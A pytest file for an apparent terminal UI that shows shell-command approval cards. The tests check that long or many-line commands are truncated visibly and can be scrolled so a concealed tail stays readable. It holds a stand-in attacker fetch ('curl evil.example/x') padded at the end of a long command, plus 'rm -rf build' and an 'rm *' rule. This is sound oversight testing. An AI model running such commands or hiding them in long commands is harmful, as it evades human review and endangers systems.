from dataclasses import replace

import pytest

from tests.tui_app.scene import approval
from vega_tui.core.records import Segment
from vega_tui.tui.paint.cells import Line
from vega_tui.tui.panes.card_paint import card_lines, marked
from vega_tui.tui.panes.card_state import DEAD_S, CardState

HIDDEN = "curl evil.example/x"


def shown(card: CardState, diff: list[Line] | None = None) -> str:
    lines = card_lines(card, 80, now=DEAD_S, diff=diff or [])
    return "\n".join("".join(text for text, _ in line) for line in lines)


def asked(command: str) -> CardState:
    cut = command[:60] + "…"
    return CardState(approval=approval(args={"command": command}, summary=cut, segments=()), changed=0.0)


def pressed(card: CardState, *keys: str) -> CardState:
    for key in keys:
        card, _ = card.key(key, None, DEAD_S)
    return card


def test_the_end_of_a_long_command_can_be_read_in_the_full_view_and_the_short_one_says_it_is_cut() -> None:
    card = asked("echo " + "harmless " * 100 + "; " + HIDDEN)
    assert "cut short: " in shown(card)
    whole = shown(replace(card, full=True)) + shown(pressed(replace(card, full=True), "pagedown", "pagedown"))
    assert HIDDEN in whole
    assert "1 to 10 of" in whole


def test_a_command_of_many_lines_is_scrolled_to_its_last() -> None:
    card = replace(asked("\n".join(f"echo {at}" for at in range(40)) + "\n" + HIDDEN), full=True)
    assert "1 to 10 of 41 lines" in shown(card)
    assert HIDDEN in shown(pressed(card, *["pagedown"] * 8))
    assert shown(pressed(card, "down", "up")) == shown(card)


def test_a_long_change_says_how_much_of_it_is_shown() -> None:
    change: list[Line] = [[(f"+ row {at}", "add")] for at in range(60)]
    assert "1 to 8 of 60 lines   v shows all" in shown(asked("x"), change)
    assert "row 59" in shown(pressed(replace(asked("x"), full=True), *["pagedown"] * 11), change)


@pytest.mark.parametrize("width", [80, 99, 100, 104, 110, 126])
@pytest.mark.parametrize("rule", ["", "Bash(rm *)"])
def test_every_key_of_the_card_is_named_at_every_width(width: int, rule: str) -> None:
    card = CardState(approval=approval(rule=rule), changed=0.0)
    keys = "".join(part for part, _ in card_lines(card, width, now=DEAD_S)[-2])
    assert keys.endswith("stop it")
    assert ("no rule" in keys) is (rule == "")


def test_parts_that_are_not_listed_are_counted() -> None:
    card = asked("x")
    segments = approval().segments * 3
    assert "and 4 more" in shown(replace(card, approval=approval(segments=segments)))


@pytest.mark.parametrize("operator", ["&&", "||", ";", "|"])
def test_a_part_that_is_set_off_keeps_the_operators_that_join_it(operator: str) -> None:
    summary = f"cat a-long-name.txt {operator} rm -rf build {operator} echo a-long-word"
    part = Segment(text="rm -rf build", verdict="ask")
    line = marked(approval(summary=summary, segments=(part,)), "ask", 30)
    left_out = len(summary) - len(part.text)
    assert "".join(text for text, _ in line) == f"… {operator} rm -rf build {operator} …⟨+{left_out}⟩"
